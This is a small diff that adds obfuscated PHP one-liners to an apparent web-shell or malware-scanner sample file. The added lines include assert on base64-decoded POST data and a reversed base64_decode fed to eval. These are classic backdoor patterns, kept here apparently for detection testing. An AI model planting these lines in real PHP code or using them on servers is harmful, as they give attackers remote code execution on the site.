@@ -17,3 +17,6 @@
 <?php $x = base64_decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC8='); ?>
 <?php eval( XXTEA_Decrypt( $p, $k ) ); ?>
 <?php $x = strrev($k); $v = strrev(xxtea_decrypt($p, $x)); Eval ( xxtea_decrypt ( $v , $x ) ); ?>
+<?php $k = "Create_" . "Function"; $g = $k('$a', $b); ?>
+<?php $m = 'as' . 'sert'; $m(base64_decode($_POST['d'])); ?>
+<?php $d = strrev( "edoced_46esab" ); eval($d($p)); ?>
